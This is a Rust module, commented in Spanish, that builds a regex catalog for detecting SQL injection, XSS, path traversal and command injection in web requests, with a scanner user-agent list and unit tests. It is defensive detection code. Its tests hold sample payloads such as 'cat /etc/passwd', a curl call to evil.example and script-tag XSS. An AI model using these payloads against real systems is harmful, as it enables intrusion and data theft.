use regex::Regex;
use serde::{Deserialize, Serialize};
use serde_json::{json, Value};

use crate::{EventType, Severity};

/// Fragmentos de user agent asociados a herramientas de escaneo conocidas.
pub const SCANNER_USER_AGENTS: &[&str] = &[
    "sqlmap",
    "nikto",
    "nessus",
    "openvas",
    "nmap",
    "masscan",
    "zmap",
    "dirbuster",
    "dirb",
    "gobuster",
    "wfuzz",
    "ffuf",
    "acunetix",
    "netsparker",
    "burpsuite",
    "metasploit",
    "hydra",
];

/// Patrón individual con nombre para trazabilidad en los hallazgos.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ThreatPattern {
    pub name: String,
    #[serde(with = "serde_regex")]
    pub regex: Regex,
}

/// Categoría de amenaza: tipo de evento, severidad y patrones compilados.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ThreatCategory {
    pub event_type: EventType,
    pub severity: Severity,
    pub description: String,
    pub patterns: Vec<ThreatPattern>,
}

impl ThreatCategory {
    /// Devuelve el primer patrón que coincide con la superficie de texto.
    pub fn first_match(&self, surface: &str) -> Option<&ThreatPattern> {
        self.patterns.iter().find(|p| p.regex.is_match(surface))
    }
}

/// Catálogo compilado de patrones de ataque.
///
/// Se construye una sola vez al inicio; una expresión inválida detiene el
/// arranque de inmediato en lugar de dejar un detector a medias.
#[derive(Debug, Clone)]
pub struct PatternCatalog {
    categories: Vec<ThreatCategory>,
}

impl PatternCatalog {
    pub fn new() -> Self {
        Self {
            categories: vec![
                build_category(
                    EventType::SqlInjection,
                    &[
                        ("union_select", r"(?i)union\s+(?:all\s+)?select"),
                        ("quoted_boolean", r#"(?i)['"]\s*(?:or|and)\s+[^\s]*\s*=|['"]\s*(?:or|and)\s*['"]"#),
                        ("numeric_tautology", r"(?i)\b(?:or|and)\s+\d+\s*=\s*\d+"),
                        ("select_from", r"(?i)\bselect\b[\s\S]{0,40}?\bfrom\b"),
                        ("schema_tamper", r"(?i)\b(?:drop|alter|create|truncate)\s+(?:table|database|index|view)\b"),
                        ("data_tamper", r"(?i)\b(?:insert\s+into|delete\s+from|update\s+\w+\s+set)\b"),
                        ("time_probe", r"(?i)\b(?:sleep|benchmark|waitfor|pg_sleep)\s*\("),
                        ("comment_terminator", r"(?i)(?:--|#|/\*)\s*$|;\s*--"),
                    ],
                ),
                build_category(
                    EventType::Xss,
                    &[
                        ("script_tag", r"(?i)<\s*script[^>]*>"),
                        ("event_handler", r"(?i)\bon(?:error|load|click|mouseover|focus|submit)\s*="),
                        ("javascript_scheme", r"(?i)javascript\s*:"),
                        ("embedded_frame", r"(?i)<\s*(?:iframe|object|embed)[^>]*>"),
                        ("script_call", r"(?i)\b(?:alert|prompt|confirm|eval)\s*\("),
                        ("dom_access", r"(?i)document\s*\.\s*(?:cookie|write|location)"),
                    ],
                ),
                build_category(
                    EventType::PathTraversal,
                    &[
                        ("dot_dot_slash", r"(?:\.\./){2,}|(?:\.\.\\){2,}"),
                        ("encoded_dots", r"(?i)(?:%2e%2e|%252e|\.%2e|%2e\.)(?:/|%2f|\\|%5c)"),
                        ("sensitive_unix_path", r"(?i)/etc/(?:passwd|shadow|hosts)|/proc/self/"),
                        ("sensitive_windows_path", r"(?i)(?:c:\\|%5c)(?:windows|winnt)\\|boot\.ini"),
                    ],
                ),
                build_category(
                    EventType::CommandInjection,
                    &[
                        ("shell_chain", r"(?i)(?:;|&&|\|\|?)\s*(?:cat|ls|id|whoami|uname|curl|wget|ping|bash|sh|python|perl)\b"),
                        ("command_substitution", r"(?i)\$\(\s*(?:cat|ls|id|whoami|uname|curl|wget)\b"),
                        ("backtick_exec", r"`[^`]{1,80}`"),
                        ("destructive_command", r"(?i)\brm\s+-rf?\b|\bmkfs\b|\bdd\s+if="),
                        ("shell_binary", r"(?i)/bin/(?:ba)?sh\b|\bnc\s+(?:-e|-l)\b"),
                    ],
                ),
            ],
        }
    }

    pub fn categories(&self) -> &[ThreatCategory] {
        &self.categories
    }

    pub fn category(&self, event_type: EventType) -> Option<&ThreatCategory> {
        self.categories.iter().find(|c| c.event_type == event_type)
    }

    /// Total de patrones compilados en todas las categorías.
    pub fn pattern_count(&self) -> usize {
        self.categories.iter().map(|c| c.patterns.len()).sum()
    }

    /// Resumen serializable del catálogo, útil para diagnóstico.
    pub fn summary(&self) -> Value {
        let per_category: Vec<Value> = self
            .categories
            .iter()
            .map(|c| {
                json!({
                    "category": c.event_type.as_str(),
                    "severity": c.severity.as_str(),
                    "patterns": c.patterns.len(),
                })
            })
            .collect();
        json!({
            "categories": per_category,
            "total_patterns": self.pattern_count(),
        })
    }
}

impl Default for PatternCatalog {
    fn default() -> Self {
        Self::new()
    }
}

fn build_category(event_type: EventType, patterns: &[(&str, &str)]) -> ThreatCategory {
    ThreatCategory {
        event_type,
        severity: event_type.default_severity(),
        description: event_type.describe().to_string(),
        patterns: patterns
            .iter()
            .map(|(name, expr)| ThreatPattern {
                name: name.to_string(),
                regex: Regex::new(expr).unwrap(),
            })
            .collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_catalog_builds_with_four_categories() {
        let catalog = PatternCatalog::new();
        let types: Vec<EventType> = catalog.categories().iter().map(|c| c.event_type).collect();
        assert_eq!(
            types,
            vec![
                EventType::SqlInjection,
                EventType::Xss,
                EventType::PathTraversal,
                EventType::CommandInjection,
            ]
        );
        assert!(catalog.categories().iter().all(|c| !c.patterns.is_empty()));
    }

    #[test]
    fn test_category_severities() {
        let catalog = PatternCatalog::new();
        let sql = catalog.category(EventType::SqlInjection).unwrap();
        assert_eq!(sql.severity, Severity::High);
        let cmd = catalog.category(EventType::CommandInjection).unwrap();
        assert_eq!(cmd.severity, Severity::Critical);
    }

    #[test]
    fn test_sql_patterns_match_classic_payloads() {
        let catalog = PatternCatalog::new();
        let sql = catalog.category(EventType::SqlInjection).unwrap();
        assert!(sql.first_match("id=1 union select username from users").is_some());
        assert!(sql.first_match("name=1' or '1'='1").is_some());
        assert!(sql.first_match("q=1 or 1=1").is_some());
        assert!(sql.first_match("q=hello world").is_none());
    }

    #[test]
    fn test_xss_patterns_match_script_and_handlers() {
        let catalog = PatternCatalog::new();
        let xss = catalog.category(EventType::Xss).unwrap();
        assert!(xss.first_match("<script>alert(1)</script>").is_some());
        assert!(xss.first_match("<img src=x onerror=alert(1)>").is_some());
        assert!(xss.first_match("a href=\"javascript:void(0)\"").is_some());
        assert!(xss.first_match("plain product description").is_none());
    }

    #[test]
    fn test_traversal_requires_repeated_segments() {
        let catalog = PatternCatalog::new();
        let traversal = catalog.category(EventType::PathTraversal).unwrap();
        assert!(traversal.first_match("../../etc/passwd").is_some());
        assert!(traversal.first_match("%2e%2e/%2e%2e/secret").is_some());
        // Un solo ../ es navegación normal de rutas relativas
        assert!(traversal.first_match("../styles/main.css").is_none());
    }

    #[test]
    fn test_command_patterns_ignore_query_separators() {
        let catalog = PatternCatalog::new();
        let cmd = catalog.category(EventType::CommandInjection).unwrap();
        assert!(cmd.first_match("x=1; cat /etc/passwd").is_some());
        assert!(cmd.first_match("v=$(whoami)").is_some());
        assert!(cmd.first_match("f=`id`").is_some());
        assert!(cmd.first_match("n=test && curl evil.example").is_some());
        // El & de los query strings no debe disparar la categoría
        assert!(cmd.first_match("page=2&sort=asc&filter=active").is_none());
    }

    #[test]
    fn test_summary_reports_totals() {
        let catalog = PatternCatalog::new();
        let summary = catalog.summary();
        assert_eq!(summary["categories"].as_array().unwrap().len(), 4);
        assert_eq!(
            summary["total_patterns"].as_u64().unwrap(),
            catalog.pattern_count() as u64
        );
    }
}
